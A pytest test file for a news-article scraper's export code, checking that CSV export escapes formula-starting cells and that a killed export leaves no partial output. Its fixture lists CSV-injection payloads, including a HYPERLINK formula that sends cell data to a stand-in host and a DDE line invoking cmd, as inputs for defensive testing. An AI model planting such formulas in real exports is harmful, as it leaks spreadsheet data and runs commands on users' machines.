"""Exports: CSV cells a spreadsheet would run as formulas, and what a killed export leaves."""

from __future__ import annotations

import csv
import json
import signal
import sqlite3
import subprocess
import sys
import time
from pathlib import Path

import pyarrow.parquet as pq
import pytest

from storage.articles import ArticleStore
from storage.export import export
from tests.conftest import PROJECT_ROOT, scrapy
from tests.test_storage_articles import make_record

# Titles a hostile or careless page could carry: each begins with a character that OWASP's
# CSV Injection page lists as starting a formula (=, +, -, @, tab, carriage return, line feed).
FORMULA_TITLES = [
    '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")',
    "+84 912 345 678",
    "-2 độ C ở Nam Định",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+2",
    "\r=1+2",
    "\n=1+2",
]
PLAIN_TITLE = "Khối thi đua; =1+2 ở giữa"


@pytest.fixture()
def hostile_records() -> list[dict]:
    return [
        make_record(f"http://x/{number}/", title=title, lead="-- sapo",
                    published=f"2020-02-{10 + number}")
        for number, title in enumerate([*FORMULA_TITLES, PLAIN_TITLE])
    ]


def test_csv_export_neutralises_cells_that_spreadsheets_run_as_formulas(hostile_records, tmp_path):
    output = tmp_path / "articles.csv"
    assert export(hostile_records, output, "csv") == len(hostile_records)
    with open(output, encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    titles = [row["title"] for row in rows]
    # OWASP: a single quote before the first character makes the cell text.
    assert titles == [f"'{title}" for title in FORMULA_TITLES] + [PLAIN_TITLE]
    assert {row["lead"] for row in rows} == {"'-- sapo"}
    assert all(row["url"].startswith("http://x/") for row in rows)
    # Every cell is quoted, so a separator inside one (a ";" for a spreadsheet in a locale that
    # splits on it) cannot start a new cell with a formula.
    header = output.read_text(encoding="utf-8").split("\r\n", 1)[0]
    assert header.startswith('"url","canonical_url","site","title"')


@pytest.mark.parametrize("fmt", ["jsonl", "parquet"])
def test_jsonl_and_parquet_keep_the_text_as_published(hostile_records, tmp_path, fmt):
    output = tmp_path / f"articles.{fmt}"
    export(hostile_records, output, fmt)
    if fmt == "jsonl":
        records = [json.loads(line) for line in output.read_text(encoding="utf-8").splitlines()]
    else:
        records = pq.read_table(output).to_pylist()
    assert [record["title"] for record in records] == [*FORMULA_TITLES, PLAIN_TITLE]
    assert {record["lead"] for record in records} == {"-- sapo"}


BIG_STORE_ARTICLES = 10_000


def big_store(archive: Path) -> None:
    """A store whose JSON Lines export takes a good second: one article copied with SQL."""
    with ArticleStore(archive / "articles.sqlite3") as store:
        store.upsert(make_record("http://x/0/", body="Đoạn văn dài. " * 60))
    with sqlite3.connect(archive / "articles.sqlite3") as connection:
        connection.execute(
            "WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < ?) "
            "INSERT INTO articles SELECT "
            "'http://x/' || i || '/', 'http://x/' || i || '/', site, title, lead, body, "
            "published, modified, authors, credit, section, tags, images, language, fetched, "
            "warc, content_hash, version, provenance, first_fetched FROM articles, n "
            "WHERE canonical_url = 'http://x/0/'", (BIG_STORE_ARTICLES - 1,))


def visible_files(directory: Path) -> list[str]:
    """What `ls` shows: names a person could take for a result."""
    return sorted(path.name for path in directory.iterdir() if not path.name.startswith("."))


def test_a_killed_export_leaves_nothing_that_looks_like_a_result(tmp_path):
    archive = tmp_path / "archive"
    big_store(archive)
    exports = tmp_path / "exports"
    exports.mkdir()
    output = exports / "articles.jsonl"
    command = [sys.executable, "-m", "scrapy", "export", "-s", f"ARCHIVE_DIR={archive}",
               "--output", str(output)]
    process = subprocess.Popen(command, cwd=PROJECT_ROOT, stdout=subprocess.DEVNULL,
                               stderr=subprocess.DEVNULL)
    deadline = time.monotonic() + 60
    try:
        # Kill it once it has written a good part of the export.
        while sum(path.stat().st_size for path in exports.iterdir()) < 2_000_000:
            assert process.poll() is None, "the export ended before the kill"
            assert time.monotonic() < deadline
            time.sleep(0.005)
        process.send_signal(signal.SIGKILL)
        process.wait(10)
    finally:
        if process.poll() is None:
            process.kill()
    assert not output.exists()
    assert visible_files(exports) == []

    again = scrapy("export", "-s", f"ARCHIVE_DIR={archive}", "--output", str(output))
    assert again.returncode == 0, again.stderr
    assert sorted(path.name for path in exports.iterdir()) == [
        "README.md", "SHA256SUMS", "articles.jsonl", "articles.schema.json"]
    with open(output, encoding="utf-8") as handle:
        urls = [json.loads(line)["url"] for line in handle]
    assert len(urls) == len(set(urls)) == BIG_STORE_ARTICLES


def test_a_leftover_of_an_earlier_version_is_removed_too(hostile_records, tmp_path):
    output = tmp_path / "articles.jsonl"
    # What an export killed before this fix left: the output's name plus ".partial".
    legacy = tmp_path / "articles.jsonl.partial"
    legacy.write_text('{"url": "http://x/half', encoding="utf-8")
    export(hostile_records, output, "jsonl")
    assert not legacy.exists()
    assert len(output.read_text(encoding="utf-8").splitlines()) == len(hostile_records)
